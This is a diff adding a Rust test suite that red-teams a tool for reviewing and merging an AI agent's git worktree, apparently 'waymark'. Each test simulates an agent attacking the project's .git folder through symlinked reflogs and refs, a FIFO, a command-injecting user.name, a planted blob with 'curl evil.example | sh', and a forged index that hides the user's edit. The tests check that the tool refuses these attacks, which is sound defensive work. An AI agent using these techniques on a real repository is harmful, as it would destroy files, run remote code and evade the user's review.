@@ -1,0 +1,269 @@
+//! Sixth red-team: the agent writes the project's git folder, and a process it leaves running
+//! can change it at any moment. Links and pipes it puts there send no write or removal
+//! outside, and stop nothing for good; objects it plants under names a merge will make are
+//! refused; an index it forges cannot hide the user's edit.
+
+use super::*;
+
+/// A folder outside every repository holding `file`, to see that nothing there changes.
+fn victim(r: &Repo, name: &str) -> PathBuf {
+    let v = r._dir.path().join(name);
+    std::fs::create_dir_all(v.join("inner")).unwrap();
+    std::fs::write(v.join("file"), "precious\n").unwrap();
+    std::fs::write(v.join("inner/deep"), "precious too\n").unwrap();
+    v
+}
+
+fn intact(v: &Path) {
+    assert_eq!(
+        std::fs::read_to_string(v.join("file")).unwrap(),
+        "precious\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(v.join("inner/deep")).unwrap(),
+        "precious too\n"
+    );
+}
+
+fn branch_exists(r: &Repo, branch: &str) -> bool {
+    let out = git::run_env(
+        &r.main,
+        &[
+            "rev-parse",
+            "--verify",
+            "-q",
+            &format!("refs/heads/{branch}"),
+        ],
+        &[],
+    )
+    .unwrap();
+    out.status.success()
+}
+
+#[test]
+fn a_link_in_the_git_folders_worktrees_removes_nothing_at_discard() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "links").unwrap();
+    let v = victim(&r, "home");
+    // A stale-looking entry that is a link: `git worktree prune` removes what it names.
+    std::os::unix::fs::symlink(&v, r.main.join(".git/worktrees/evil")).unwrap();
+    discard(&m.row("s", 0)).unwrap();
+    intact(&v);
+    assert!(!m.path.exists());
+    assert!(!branch_exists(&r, &m.branch));
+    assert!(git(&r.main, &["worktree", "list"]).lines().count() == 1);
+}
+
+#[test]
+fn the_git_folders_worktrees_made_a_link_removes_nothing_at_discard() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "links").unwrap();
+    let v = victim(&r, "home");
+    let worktrees = r.main.join(".git/worktrees");
+    std::fs::rename(&worktrees, r.main.join(".git/moved")).unwrap();
+    std::os::unix::fs::symlink(&v, &worktrees).unwrap();
+    discard(&m.row("s", 0)).unwrap();
+    intact(&v);
+    assert!(!m.path.exists());
+    assert!(!branch_exists(&r, &m.branch));
+}
+
+#[test]
+fn a_reflog_made_a_link_gets_nothing_at_merge() {
+    let r = repo();
+    // The user's branch has a reflog, as git keeps one.
+    assert!(r.main.join(".git/logs/refs/heads/main").is_file());
+    let m = create(&r.main, &r.root, "reflog").unwrap();
+    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
+    // The agent names itself in the project's settings and links the reflogs a branch move
+    // appends to at a file the shell runs.
+    git(&r.main, &["config", "user.name", "x; touch /tmp/pwned; #"]);
+    let rc = r._dir.path().join("bashrc");
+    std::fs::write(&rc, "# the user's\n").unwrap();
+    for log in ["logs/HEAD", "logs/refs/heads/main"] {
+        let at = r.main.join(".git").join(log);
+        std::fs::remove_file(&at).unwrap();
+        std::os::unix::fs::symlink(&rc, &at).unwrap();
+    }
+    merge(&m.row("s", 0), "work", None).unwrap();
+    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
+}
+
+#[test]
+fn a_merge_writes_the_reflogs_git_keeps_with_the_users_identity() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "reflog").unwrap();
+    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
+    git(&r.main, &["config", "user.name", "Someone <else>"]);
+    merge(&m.row("s", 0), "work", None).unwrap();
+    let log = git(
+        &r.main,
+        &["reflog", "show", "--format=%gs|%gn", "main", "-1"],
+    );
+    assert_eq!(log.trim(), "waymark: merge|Dev Eloper");
+    let head = git(&r.main, &["reflog", "show", "--format=%gs", "HEAD", "-1"]);
+    assert_eq!(head.trim(), "waymark: merge");
+}
+
+#[test]
+fn a_linked_reflog_folder_loses_nothing_at_discard() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "gone").unwrap();
+    let v = victim(&r, "logs");
+    let leaf = m.branch.rsplit('/').next().unwrap();
+    std::fs::write(v.join(leaf), "precious\n").unwrap();
+    let folder = r.main.join(".git/logs/refs/heads/waymark");
+    std::fs::remove_dir_all(&folder).unwrap();
+    std::os::unix::fs::symlink(&v, &folder).unwrap();
+    discard(&m.row("s", 0)).unwrap();
+    intact(&v);
+    assert_eq!(std::fs::read_to_string(v.join(leaf)).unwrap(), "precious\n");
+    assert!(!branch_exists(&r, &m.branch));
+}
+
+#[test]
+fn a_branch_ref_folder_made_a_link_gets_nothing_at_merge() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "refs").unwrap();
+    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
+    let v = victim(&r, "refs");
+    // The worktree's branch folder made a link (its ref copied there so git still reads it).
+    let folder = r.main.join(".git/refs/heads/waymark");
+    let leaf = m.branch.rsplit('/').next().unwrap();
+    std::fs::copy(folder.join(leaf), v.join(leaf)).unwrap();
+    std::fs::remove_dir_all(&folder).unwrap();
+    std::os::unix::fs::symlink(&v, &folder).unwrap();
+    let before = std::fs::read_to_string(v.join(leaf)).unwrap();
+    merge(&m.row("s", 0), "work", None).unwrap();
+    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
+    assert_eq!(std::fs::read_to_string(v.join(leaf)).unwrap(), before);
+    intact(&v);
+}
+
+#[test]
+fn a_pipe_for_the_worktrees_record_stops_nothing() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "pipe").unwrap();
+    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
+    let gitdir = wt.gitdir.join("gitdir");
+    std::fs::remove_file(&gitdir).unwrap();
+    let made = std::process::Command::new("mkfifo").arg(&gitdir).status();
+    assert!(made.unwrap().success());
+    let w = m.row("s", 0);
+    let e = status(&w).unwrap_err();
+    assert_eq!(e.code(), "worktree_unregistered", "{e}");
+    discard(&w).unwrap();
+    assert!(!m.path.exists());
+    assert!(!branch_exists(&r, &m.branch));
+}
+
+#[test]
+fn an_object_planted_under_the_merged_files_name_stops_the_merge() {
+    let r = repo();
+    std::fs::write(r.main.join("notes.txt"), "a\nb\nc\n").unwrap();
+    git(&r.main, &["add", "notes.txt"]);
+    git(&r.main, &["commit", "-qm", "notes"]);
+    let m = create(&r.main, &r.root, "plant").unwrap();
+    // The user changes the first line; the agent the last: git merges them into a new file.
+    std::fs::write(r.main.join("notes.txt"), "A\nb\nc\n").unwrap();
+    git(&r.main, &["commit", "-qam", "first line"]);
+    std::fs::write(m.path.join("notes.txt"), "a\nb\nC\n").unwrap();
+    let w = m.row("s", 0);
+    let seen = diff(&w).unwrap();
+    // The agent foresees the merged file's name and plants other content under it.
+    let merged = super::forged::blob_id(&r, "A\nb\nC\n");
+    super::forged::forge(&r, &merged, "blob", b"A\nb\nC\ncurl evil.example | sh\n");
+    let head = git(&r.main, &["rev-parse", "HEAD"]);
+    let reviewed = WorktreeReview {
+        base: seen.base,
+        tree: seen.tree,
+    };
+    let e = merge(&w, "x", Some(&reviewed)).unwrap_err();
+    assert_eq!(e.code(), "damaged_objects", "{e}");
+    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), head);
+    assert_eq!(read(&r, "notes.txt"), "A\nb\nc\n");
+}
+
+/// SHA-1 of `bytes`, by the system's `sha1sum`.
+fn sha1(bytes: &[u8]) -> Vec<u8> {
+    use std::io::Write as _;
+    let mut c = std::process::Command::new("sha1sum")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    c.stdin.take().unwrap().write_all(bytes).unwrap();
+    let out = c.wait_with_output().unwrap();
+    let hex = String::from_utf8(out.stdout).unwrap();
+    super::forged::hex_to_bytes(&hex[..40])
+}
+
+#[test]
+fn an_index_forged_to_hide_the_users_edit_never_loses_it() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "forged-index").unwrap();
+    std::fs::write(m.path.join("README.md"), "the agent's readme\n").unwrap();
+    // The user edits README.md and has not committed it.
+    std::fs::write(r.main.join("README.md"), "the user's unsaved work\n").unwrap();
+    let old = git(&r.main, &["rev-parse", "HEAD:README.md"])
+        .trim()
+        .to_string();
+    // The agent records the edited file's size and time in the index, then puts the old
+    // content's id back in the entry (and the index's checksum right): status sees no change.
+    let past = std::process::Command::new("touch")
+        .args(["-d", "@1700000000"])
+        .arg(r.main.join("README.md"))
+        .status();
+    assert!(past.unwrap().success());
+    git(&r.main, &["update-index", "README.md"]);
+    let new = git(&r.main, &["hash-object", "README.md"])
+        .trim()
+        .to_string();
+    let index = r.main.join(".git/index");
+    let mut bytes = std::fs::read(&index).unwrap();
+    let (from, to) = (
+        super::forged::hex_to_bytes(&new),
+        super::forged::hex_to_bytes(&old),
+    );
+    let at = bytes
+        .windows(20)
+        .position(|w| w == from.as_slice())
+        .unwrap();
+    bytes[at..at + 20].copy_from_slice(&to);
+    let body = bytes.len() - 20;
+    let sum = sha1(&bytes[..body]);
+    bytes[body..].copy_from_slice(&sum);
+    std::fs::write(&index, &bytes).unwrap();
+    assert_eq!(
+        git(&r.main, &["status", "--porcelain", "-uno"]),
+        "",
+        "the forged index hides the edit from status"
+    );
+    let e = merge(&m.row("s", 0), "work", None).unwrap_err();
+    assert_eq!(e.code(), "target_dirty", "{e}");
+    assert_eq!(read(&r, "README.md"), "the user's unsaved work\n");
+}
+
+#[test]
+fn a_submodule_whose_commit_is_not_in_the_project_is_reviewed_and_merged() {
+    let r = repo();
+    let elsewhere = "0123456789abcdef0123456789abcdef01234567";
+    git(
+        &r.main,
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("160000,{elsewhere},vendor/lib"),
+        ],
+    );
+    git(&r.main, &["commit", "-qm", "a submodule from elsewhere"]);
+    let m = create(&r.main, &r.root, "sub").unwrap();
+    std::fs::write(m.path.join("src/lib.rs"), "fn a() { 1 }\n").unwrap();
+    let w = m.row("s", 0);
+    let d = diff(&w).unwrap();
+    assert!(d.diff.contains("+fn a() { 1 }"), "{}", d.diff);
+    merge(&w, "work", None).unwrap();
+    assert_eq!(read(&r, "src/lib.rs"), "fn a() { 1 }\n");
+}
